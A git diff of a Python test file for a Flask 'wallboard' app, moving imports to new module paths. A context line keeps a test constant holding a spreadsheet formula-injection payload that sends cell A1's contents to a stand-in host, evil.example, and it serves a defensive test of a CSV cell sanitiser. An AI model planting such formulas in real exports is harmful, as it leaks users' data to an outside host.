@@ -15,10 +15,10 @@ from flask.testing import FlaskClient
 from sqlalchemy import Engine, select
 
 from tests.helpers import insert_rows, response_row
-from wallboard import store
 from wallboard.config import parse_config
-from wallboard.exports import FOLLOWUP_HEADER, RESPONSE_HEADER, register, safe_cell
-from wallboard.followups import update_followup
+from wallboard.meeting.exports import FOLLOWUP_HEADER, RESPONSE_HEADER, register, safe_cell
+from wallboard.meeting.followups import update_followup
+from wallboard.store import reads as store
 
 TZ = ZoneInfo("Europe/Copenhagen")
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik her")'
@@ -138,7 +138,7 @@ def test_followups_csv_keeps_status_and_times(engine: Engine, client: FlaskClien
 def test_in_time_column() -> None:
     from types import SimpleNamespace
 
-    from wallboard.exports import in_time
+    from wallboard.meeting.exports import in_time
 
     answered = datetime(2026, 11, 20, 9, tzinfo=UTC)
     deadline = answered + timedelta(hours=48)
@@ -190,9 +190,9 @@ def test_safe_cell(value: object, shown: object) -> None:
 
 def test_exports_need_a_sign_in_and_a_session_does_not_open_the_api(
         engine: Engine, tmp_path: Path) -> None:
-    auth = pytest.importorskip("wallboard.auth")
-    users = pytest.importorskip("wallboard.users")
-    from wallboard import followups_api
+    auth = pytest.importorskip("wallboard.accounts.auth")
+    users = pytest.importorskip("wallboard.accounts.users")
+    from wallboard.meeting import followups_api
 
     config = parse_config({"api": {"token": "s3cret"}}, tmp_path / "config.toml")
     server = Flask(__name__)
